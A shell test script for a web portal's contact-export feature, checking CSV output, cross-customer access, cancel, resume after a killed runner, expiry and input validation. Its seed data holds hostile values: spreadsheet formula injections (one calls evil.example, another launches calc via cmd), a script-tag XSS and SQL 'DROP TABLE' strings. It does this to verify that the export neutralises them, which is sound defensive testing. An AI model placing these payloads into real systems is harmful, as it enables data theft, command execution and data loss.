#!/bin/sh
# 0153-exports.t: background contact exports: over WAPORTAL_EXPORT_SYNC_MAX the Contacts page's export becomes a runner job whose file equals the in-request export byte for byte; hostile values neutralised; the pages, the API, cancel, a runner killed mid-file, the link's expiry (410, pieces deleted), another customer's exports and bad inputs.
[ -n "$BASH_VERSION" ] || exec bash "$0" "$@"
. "${top_srcdir:?}/t/lib/stack.sh"

[ -x "${top_builddir:?}/t/apikeygen" ] || skip_all "t/apikeygen not built"
command -v jq >/dev/null || skip_all "jq is missing (./dev test installs it)"
san=${WAPORTAL_TEST_SANITIZERS:-}	# stack_start unsets WAPORTAL_*
STACK_ENV="WAPORTAL_EXPORT_SYNC_MAX=5 WAPORTAL_EXPORT_TTL=3600"
stack_start --workers 1 --clock '2030-01-02 03:04:05+00' --runner
stack_customers 1 100 c@example.com d@example.com || bail_out "seeding failed"
sql "UPDATE packages SET max_contacts = 1000000, api_rpm = 1000" >/dev/null
PW=$STACK_PW
d=$STACK_DIR
gates=$d/gates
mkdir -p "$gates"
chmod 777 "$gates"

jar=$d/jar; jar2=$d/jar2
csrf_of() { grep -o 'name="_csrf" value="[^"]*"' <<<"$HTTP_BODY" | head -1 | sed 's/.*value="//; s/"$//'; }
http POST /login -c "$jar" --data-urlencode email=c@example.com --data-urlencode "password=$PW"
http POST /login -c "$jar2" --data-urlencode email=d@example.com --data-urlencode "password=$PW"
http GET /contacts -b "$jar"; csrf=$(csrf_of)
http GET /contacts -b "$jar2"; csrf2=$(csrf_of)
read -r K1 _ < <(newkey 1 '{contacts:read}')
read -r K2 _ < <(newkey 2 '{contacts:read}')
j() { jq -r "$@" <<<"$HTTP_BODY"; }
njobs() { sql "SELECT count(*) FROM jobs"; }

# Contacts with hostile values, tags and fields; the other customer's.
sql "INSERT INTO contact_fields (customer_id, key, label, kind) VALUES
    (1, 'city', 'City', 'text'), (1, 'age', 'Age', 'number');
    INSERT INTO tags (customer_id, name) VALUES (1, 'vip'), (1, '<b>bold</b>'),
    (1, '=cmd|''/c calc''!A1'), (2, 'theirs');
    INSERT INTO contacts (customer_id, phone, name, email, notes, tags, fields,
    status, consent_source, consent_at) VALUES
    (1, '+6281200000001', '=HYPERLINK(\"http://evil.example/?x=\"&A1)', 'a@example.com',
     'line one
line two', '{1,3}', '{\"city\": \"@SUM(1+1)\", \"age\": 42}', 'subscribed', 'portal', wa_now()),
    (1, '+6281200000002', '<script>alert(1)</script>', '', 'a, \"quoted\" note',
     '{2}', '{\"city\": \"Bandung, Jawa Barat\"}', 'subscribed', 'import', wa_now()),
    (1, '+6281200000003', '''); DROP TABLE contacts;--', '', '-2+3', '{}',
     '{\"age\": 4.5}', 'subscribed', 'api', wa_now()),
    (1, '+6281200000004', '+tab	cell', '', '', '{1}', '{}', 'unsubscribed', 'api', wa_now()),
    (1, '+6281200000005', 'Plain', '', '', '{}', '{}', 'unknown', '', NULL),
    (1, '+6281200000006', 'Six', '', '', '{}', '{}', 'unknown', '', NULL),
    (1, '+6281200000007', 'Seven', '', '', '{}', '{}', 'unknown', '', NULL);
    INSERT INTO contacts (customer_id, phone, name) VALUES (2, '+6281299999999', 'Theirs')" \
    >/dev/null || bail_out "seeding failed"
theirs=$(sql "SELECT id FROM contacts WHERE customer_id = 2")

# export_done JOB: 0 once the job is done, failed or cancelled.
export_over() { [ "$(sql "SELECT state IN ('done', 'failed', 'cancelled') FROM jobs WHERE id = $1")" = t ]; }
export_wait() { wait_for 120 export_over "$1" || { diag "job $1 did not end"; diag_file "$(stack_log runner.log)"; }; }
bulk() {	# bulk JAR CSRF FILTER ACTION [more form fields]: POST /contacts/bulk
	local jr=$1 cs=$2 f=$3 a=$4
	shift 4
	http POST /contacts/bulk -b "$jr" --data-urlencode "_csrf=$cs" \
	    --data-urlencode "filter=$f" --data-urlencode "action=$a" "$@"
}

# ---------------------------------------------------------------- in the request
bulk "$jar" "$csrf" "status=subscribed" export --data-urlencode all=1
is "$HTTP_STATUS" 200 "3 subscribed (the sync limit is 5): streamed in the request"
like "$(header Content-Type)" 'text/csv' "... as a CSV"
cp "$d/http.body" "$d/sync.csv"
is "$(njobs)" 0 "... no job"

# ---------------------------------------------------------------- the same as a job (API)
api POST /api/v1/contacts/exports "$K1" -H 'Content-Type: application/json' \
    --data-binary '{"filter": {"status": "subscribed"}}'
is "$HTTP_STATUS" 202 "POST /api/v1/contacts/exports: 202"
job=$(j .id)
is "$(j '[.filter, (.ids|tostring)] | join(" ")')" "status=subscribed 0" \
    "... with the filter as the page renders it"
export_wait "$job"
api GET "/api/v1/contacts/exports/$job" "$K1"
is "$(j '[.state, (.rows|tostring), (.progress.rows_done|tostring)] | join(" ")')" "done 3 3" \
    "... done: 3 rows"
is "$(j .download_url)" "/api/v1/contacts/exports/$job/file" "... its download URL"
is "$(j .expires_at)" "2030-01-02T04:04:05Z" "... expiring WAPORTAL_EXPORT_TTL after it was done"
api GET "/api/v1/contacts/exports/$job/file" "$K1"
is "$HTTP_STATUS" 200 "GET .../file: 200"
cmp -s "$d/http.body" "$d/sync.csv"
ok $? "the job's file equals the in-request export byte for byte"
is "$(j .bytes <<<"$(api GET "/api/v1/contacts/exports/$job" "$K1"; cat "$d/http.body")" 2>/dev/null; stat -c %s "$d/sync.csv")" \
    "$(stat -c %s "$d/sync.csv")" "... its bytes counted"

# ---------------------------------------------------------------- over the limit from the page
bulk "$jar" "$csrf" "" export --data-urlencode all=1
is "$HTTP_STATUS" 303 "7 contacts (over 5): the page's export becomes a job"
loc=$(header Location)
like "$loc" '^/contacts/exports/[0-9]+$' "... and goes to its page"
job=${loc##*/}
is "$(sql "SELECT j.kind || ' ' || e.filter || ' ' || (e.ids IS NULL) FROM jobs j
    JOIN exports e ON e.job_id = j.id WHERE j.id = $job")" "export  true" \
    "... an export of every contact"
export_wait "$job"
http GET "/contacts/exports/$job" -b "$jar"
is "$HTTP_STATUS" 200 "its page: 200"
like "$HTTP_BODY" "href=\"/contacts/exports/$job/file\"" "... with the download link"
like "$HTTP_BODY" '2030-01-02 10:04' "... and its expiry in the customer's zone"
unlike "$HTTP_BODY" 'data-live-job' "... and no live progress any more (the page would reload itself)"
http GET "/contacts/exports/$job/live.json" -b "$jar"
is "$(j '[.state, (.rows|tostring), (.over|tostring)] | join(" ")')" "done 7 true" "live.json: done, 7 rows, over"
http GET "/contacts/exports/$job/file" -b "$jar"
is "$HTTP_STATUS" 200 "the download: 200"
cp "$d/http.body" "$d/all.csv"
is "$(head -c 3 "$d/all.csv" | od -An -tx1 | tr -d ' ')" efbbbf "the file starts with a UTF-8 BOM"
is "$(head -n 1 "$d/all.csv" | tail -c +4 | tr -d '\r')" \
    "phone,name,email,language,status,consent_source,consent_at,created_at,tags,notes,age,city" \
    "the header: the fixed columns, then the fields by label"
grep -qF "+6281200000001,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1)\",a@example.com,,subscribed,portal,2030-01-02T03:04:05Z,2030-01-02T03:04:05Z,'=cmd|'/c calc'!A1; vip,\"line one" "$d/all.csv"
ok $? "a formula name and tag neutralised, quotes doubled, tags by name"
grep -qF ",42,'@SUM(1+1)" "$d/all.csv"
ok $? "... a formula in a custom field too, the number as written"
grep -qF "<script>alert(1)</script>,,,subscribed,import," "$d/all.csv"
ok $? "HTML as it was (a CSV is not HTML)"
grep -qF "\"a, \"\"quoted\"\" note\",,\"Bandung, Jawa Barat\"" "$d/all.csv"
ok $? "commas and quotes quoted (RFC 4180)"
grep -qF "'); DROP TABLE contacts;--,,,subscribed,api," "$d/all.csv"
ok $? "SQL as it was"
grep -qF ",'-2+3,4.5," "$d/all.csv"
ok $? "a note starting with - neutralised"
grep -qF "+6281200000004,'+tab	cell," "$d/all.csv"
ok $? "a name starting with + neutralised"
is "$(grep -c $'\r$' "$d/all.csv")" 8 "8 rows ending in CRLF (the header and 7 contacts)"

http GET /contacts/exports -b "$jar"
is "$HTTP_STATUS" 200 "the exports' list: 200"
like "$HTTP_BODY" "href=\"/contacts/exports/$job\"" "... lists the export"
http GET /contacts/exports -b "$jar2"
like "$HTTP_BODY" 'No exports yet' "another customer's list is empty and says what to do"
http GET /contacts -b "$jar"
like "$HTTP_BODY" 'href="/contacts/exports"' "the Contacts page links to the exports"

# ---------------------------------------------------------------- another customer's
for p in "" /live.json /file /cancel; do
	http GET "/contacts/exports/$job$p" -b "$jar2"
	is "$HTTP_STATUS" 404 "another customer's GET /contacts/exports/{id}$p: 404"
done
http POST "/contacts/exports/$job/cancel" -b "$jar2" --data-urlencode "_csrf=$csrf2"
is "$HTTP_STATUS" 404 "... POST cancel: 404"
for p in "" /file; do
	api GET "/api/v1/contacts/exports/$job$p" "$K2"
	is "$HTTP_STATUS" 404 "another customer's key: GET .../exports/{id}$p 404"
done
api DELETE "/api/v1/contacts/exports/$job" "$K2"
is "$HTTP_STATUS" 404 "... DELETE 404"
is "$(sql "SELECT state FROM jobs WHERE id = $job")" done "... the export untouched"

# ---------------------------------------------------------------- bad inputs
before=$(njobs)
bad() {	# bad BODY FIELD DESCRIPTION
	api POST /api/v1/contacts/exports "$K1" -H 'Content-Type: application/json' --data-binary "$1"
	is "$HTTP_STATUS $(j '[.errors[].field] | join(",")')" "422 $2" "$3"
}
bad '{"filter": {"status": "maybe"}}' filter.status "an unknown status: 422 naming filter.status"
bad '{"filter": {"bogus": "1"}}' filter.bogus "an unknown parameter: 422"
bad '{"filter": {"after": "x"}}' filter.after "a cursor is no parameter of an export"
bad '{"filter": {"any": [4]}}' filter.any "another customer's tag: 422"
bad '{"filter": {"field": "nope", "eq": "x"}}' filter.field "an unknown field: 422"
bad '{"filter": {"field": "age", "eq": "<b>x</b>"}}' filter.eq "a field's value of the wrong kind: 422"
bad "{\"ids\": [$theirs]}" ids "another customer's contact id: 422"
bad '{"ids": []}' ids "no ids: 422"
bad '{"ids": ["1; DROP TABLE contacts"]}' ids "an id that is no number: 422"
bad '{"filter": "status=subscribed"}' filter "a filter that is no object: 422"
bad '{"select": 1}' select "an unknown member: 422"
api POST /api/v1/contacts/exports "$K1" -H 'Content-Type: application/json' --data-binary '{"filter": '
is "$HTTP_STATUS" 400 "malformed JSON: 400"
is "$(njobs)" "$before" "no bad call made a job"
read -r KM _ < <(newkey 1 '{messages:send}')
api POST /api/v1/contacts/exports "$KM" -H 'Content-Type: application/json' --data-binary '{}'
is "$HTTP_STATUS" 403 "a key without contacts:read: 403"
bulk "$jar" "$csrf" "status=maybe" export --data-urlencode all=1
is "$HTTP_STATUS" 400 "the page's export of a bad filter: 400"
is "$(njobs)" "$before" "... no job"

# Ids with a filter: the ids among those that match it.
ids=$(sql "SELECT string_agg(id::text, ',' ORDER BY id) FROM contacts WHERE customer_id = 1
    AND phone IN ('+6281200000002', '+6281200000005')")
api POST /api/v1/contacts/exports "$K1" -H 'Content-Type: application/json' \
    --data-binary "{\"filter\": {\"status\": \"subscribed\"}, \"ids\": [$ids]}"
is "$HTTP_STATUS $(j .ids)" "202 2" "ids and a filter: 202"
job=$(j .id)
export_wait "$job"
is "$(sql "SELECT rows FROM exports WHERE job_id = $job")" 1 "... the one of them that matches"

# ---------------------------------------------------------------- not ready, cancel
stack_runner_stop
bulk "$jar" "$csrf" "" export --data-urlencode all=1
job=$(header Location); job=${job##*/}
http GET "/contacts/exports/$job/file" -b "$jar"
is "$HTTP_STATUS" 409 "a queued export's file: 409"
like "$HTTP_BODY" 'not ready yet' "... its page says it is not ready"
api GET "/api/v1/contacts/exports/$job/file" "$K1"
is "$HTTP_STATUS $(j .type)" "409 /docs/api#problem-export-not-ready" "... the API: export-not-ready"
http GET "/contacts/exports/$job" -b "$jar"
like "$HTTP_BODY" 'data-live-job="/contacts/exports/'"$job"'/live.json"' "a queued export's page polls live.json"
like "$HTTP_BODY" "href=\"/contacts/exports/$job/cancel\"" "... and offers to cancel"
http GET "/contacts/exports/$job/cancel" -b "$jar"
like "$HTTP_BODY" 'Cancel this export?' "cancel asks first"
is "$(sql "SELECT state FROM jobs WHERE id = $job")" queued "... changing nothing"
http POST "/contacts/exports/$job/cancel" -b "$jar" --data-urlencode "_csrf=$csrf"
is "$HTTP_STATUS" 303 "the cancel: 303"
is "$(sql "SELECT state FROM jobs WHERE id = $job")" cancelled "... the export is cancelled"
api DELETE "/api/v1/contacts/exports/$job" "$K1"
is "$HTTP_STATUS" 204 "DELETE of an export that ended: 204"
is "$(sql "SELECT count(*) FROM exports WHERE job_id = $job")" 0 "... it is gone"

# Many contacts: the file is several pieces of 1 MiB.
sql "INSERT INTO contacts (customer_id, phone, name, notes)
    SELECT 1, '+62813' || lpad(g::text, 8, '0'), 'Name ' || g, repeat('n', 300)
    FROM generate_series(1, 20000) g" >/dev/null

# Cancelled while it runs: nothing of the file is kept.
WAPORTAL_RUNNER_TEST_PAUSE=export:$gates/c1 stack_runner_start || bail_out "no runner"
api POST /api/v1/contacts/exports "$K1" -H 'Content-Type: application/json' --data-binary '{}'
job=$(j .id)
wait_for 60 test -e "$gates/c1.waiting"
ok $? "the runner pauses after the first piece"
is "$(sql "SELECT count(*) FROM export_chunks WHERE job_id = $job")" 1 "... one piece stored"
api DELETE "/api/v1/contacts/exports/$job" "$K1"
is "$HTTP_STATUS $(j .cancel_requested)" "200 true" "DELETE of a running export: 200, asked to stop"
touch "$gates/c1"
export_wait "$job"
is "$(sql "SELECT state || ' ' || (SELECT count(*) FROM export_chunks WHERE job_id = $job)
    FROM jobs WHERE id = $job")" "cancelled 0" "... it ends cancelled, no piece left"

# SIGKILL mid-file: the next runner resumes after the last stored piece.
runner_pid() { cat "$STACK_DIR/run/runner.pid"; }
stack_runner_stop
WAPORTAL_RUNNER_TEST_PAUSE=export:$gates/k1 stack_runner_start || bail_out "no runner"
api POST /api/v1/contacts/exports "$K1" -H 'Content-Type: application/json' --data-binary '{"filter": {"q": "Name"}}'
killed=$(j .id)
wait_for 60 test -e "$gates/k1.waiting"
ok $? "the runner pauses after the first piece"
stack_runner_kill
is "$(sql "SELECT j.state || ' ' || e.rows || ' ' || (SELECT count(*) FROM export_chunks c WHERE c.job_id = j.id)
    FROM jobs j JOIN exports e ON e.job_id = j.id WHERE j.id = $killed" | cut -d' ' -f1,3)" "running 1" \
    "killed with one piece stored: the job is still the dead runner's"
api GET "/api/v1/contacts/exports/$killed/file" "$K1"
is "$HTTP_STATUS" 409 "... its half file is not offered"
stack_runner_start || bail_out "no runner"
stack_clock_add '2 minutes' || bail_out "clock"
export_wait "$killed"
is "$(sql "SELECT state || ' ' || attempts FROM jobs WHERE id = $killed")" "done 2" \
    "... resumed and done by the next runner, in its second attempt"
is "$(sql "SELECT rows FROM exports WHERE job_id = $killed")" 20000 "... with every row once"
cmp_ok "$(sql "SELECT count(*) FROM export_chunks WHERE job_id = $killed")" -gt 4 "... in several pieces"
if [ -z "$san" ]; then
	hwm=$(awk '/^VmHWM/ { print $2 }' "/proc/$(runner_pid)/status")
	cmp_ok "$hwm" -lt 65536 "... the runner's peak memory stays under 64 MiB (${hwm} kB)"
fi
api GET "/api/v1/contacts/exports/$killed/file" "$K1"
cp "$d/http.body" "$d/killed.csv"
# The same selection in one go, and in the request (the sync limit raised).
api POST /api/v1/contacts/exports "$K1" -H 'Content-Type: application/json' --data-binary '{"filter": {"q": "Name"}}'
whole=$(j .id)
export_wait "$whole"
api GET "/api/v1/contacts/exports/$whole/file" "$K1"
cmp -s "$d/http.body" "$d/killed.csv"
ok $? "the resumed file equals an export that ran in one go"
export WAPORTAL_EXPORT_SYNC_MAX=100000
stack_clock "$STACK_CLOCK" || bail_out "restart"
http POST /login -c "$jar" --data-urlencode email=c@example.com --data-urlencode "password=$PW"
http GET /contacts -b "$jar"; csrf=$(csrf_of)
bulk "$jar" "$csrf" "q=Name" export --data-urlencode all=1
is "$HTTP_STATUS" 200 "with the limit raised, the page streams the same selection"
cmp -s "$d/http.body" "$d/killed.csv"
ok $? "... byte for byte the job's file"

# ---------------------------------------------------------------- expiry
api GET "/api/v1/contacts/exports/$whole/file" "$K1"
is "$HTTP_STATUS" 200 "before its expiry the file downloads"
stack_clock_add '61 minutes' || bail_out "clock"
wait_for 60 eval '[ "$(sql "SELECT count(*) FROM export_chunks")" = 0 ]'
ok $? "after the expiry the runner deletes every expired file's pieces"
is "$(sql "SELECT count(*) FROM exports WHERE expired")" \
    "$(sql "SELECT count(*) FROM exports WHERE expires_at IS NOT NULL")" "... and marks them expired"
http POST /login -c "$jar" --data-urlencode email=c@example.com --data-urlencode "password=$PW"
http GET "/contacts/exports/$whole/file" -b "$jar"
is "$HTTP_STATUS" 410 "the expired link: 410"
like "$HTTP_BODY" 'has expired' "... its page says so"
api GET "/api/v1/contacts/exports/$whole/file" "$K1"
is "$HTTP_STATUS $(j .type)" "410 /docs/api#problem-export-expired" "... the API: export-expired"
api GET "/api/v1/contacts/exports/$whole" "$K1"
is "$(j '[(.expired|tostring), (.download_url|tostring)] | join(" ")')" "true null" \
    "... expired, no download URL"
http GET /contacts -b "$jar"; csrf=$(csrf_of)
http POST "/contacts/exports/$whole/cancel" -b "$jar" --data-urlencode "_csrf=$csrf"
is "$HTTP_STATUS $(header Location)" "303 /contacts/exports" "deleting an export that ended goes back to the list"
is "$(sql "SELECT count(*) FROM jobs WHERE id = $whole")" 0 "... it is gone"

api GET "/api/v1/contacts/exports?limit=2" "$K1"
is "$HTTP_STATUS $(j '.data | length') $(j '.next_cursor != null')" "200 2 true" "the API's list: pages of 2 with a cursor"
api GET "/api/v1/contacts/exports?limit=2&cursor=$(j .next_cursor)" "$K1"
is "$HTTP_STATUS" 200 "... the next page"
api GET "/api/v1/contacts/exports?limit=0" "$K1"
is "$HTTP_STATUS" 422 "... a bad limit: 422"

done_testing
